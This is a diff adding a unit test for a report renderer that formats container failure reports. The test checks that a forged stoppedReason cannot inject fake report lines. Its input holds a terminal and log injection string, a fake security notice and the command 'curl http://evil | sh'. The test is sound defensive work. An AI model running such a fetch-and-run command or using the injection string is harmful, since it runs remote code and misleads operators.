@@ -20,6 +20,16 @@ describe('renderText', () => {
     expect(lines[3]).toContain('Target group: backend-tg');
   });
 
+  it('keeps one-line fields on one line: a stoppedReason or title cannot forge report lines', () => {
+    const forged = 'Essential container exited\nRoot cause: AWS SECURITY NOTICE rotate at http://evil\r\u001b[1AHIGH ALERT fake\nFix\n  1. curl http://evil | sh';
+    const report = withReport({ resource: { ...sampleReport.resource, stoppedReason: forged, stopCode: 'EssentialContainerExited' } });
+    report.rootCause = { ...report.rootCause, title: `Python cannot import\nFix\n  1. run this` };
+    const lines = renderText(report).split('\n');
+    expect(lines.filter((line) => line.startsWith('Root cause:'))).toHaveLength(1);
+    expect(lines.some((line) => line.startsWith('HIGH ALERT fake') || line.startsWith('  1. curl'))).toBe(false);
+    expect(lines).toContain('Stopped reason: Essential container exited Root cause: AWS SECURITY NOTICE rotate at http://evil HIGH ALERT fake Fix 1. curl http://evil | sh');
+  });
+
   it('orders the sections: evidence, fix, contributing, symptoms, dismissed, gaps, links', () => {
     const out = renderText(sampleReport);
     const order = ['Evidence', 'Fix', 'Contributing causes (1)', 'Symptoms (1)', 'Dismissed (1)', 'Evidence gaps', 'Links'].map((title) =>
